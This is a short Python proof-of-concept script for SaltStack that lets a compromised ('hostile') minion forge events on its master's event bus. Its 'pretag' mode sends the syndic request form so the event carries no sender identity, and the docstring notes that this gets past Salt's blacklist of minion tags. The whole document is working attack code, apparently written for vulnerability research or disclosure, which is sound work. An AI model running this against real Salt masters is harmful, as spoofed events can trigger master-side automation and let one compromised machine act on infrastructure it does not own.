"""A hostile minion puts an event on its master's bus, as any minion can (run with the minion's
config dir): `python forge_event.py CONFIG_DIR TAG DATA_JSON plain|pretag`.

plain: what `salt-call event.fire_master` sends (the master adds the minion's id to the event).
pretag: the syndic form of the same request: the master fires the data as given, under
<pretag>/<rest of the tag>, with nothing that shows which minion sent it (the tag is split at
its first "/", so the part Salt checks against its blacklist of minion tags is only the rest).
"""

import json
import sys

import salt.channel.client
import salt.config
import salt.crypt
import salt.minion


def main(config_dir, tag, data, form):
    opts = salt.config.minion_config(f"{config_dir}/minion")
    opts.update(salt.minion.resolve_dns(opts))
    load = {
        "id": opts["id"],
        "cmd": "_minion_event",
        "tok": salt.crypt.SAuth(opts).gen_token(b"salt"),
    }
    if form == "plain":
        load.update(tag=tag, data=data)
    else:
        prefix, _, rest = tag.partition("/")
        load.update(pretag=prefix, events=[{"tag": rest, "data": data}])
    with salt.channel.client.ReqChannel.factory(opts) as channel:
        print(channel.send(load, timeout=30))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], json.loads(sys.argv[3]), sys.argv[4])
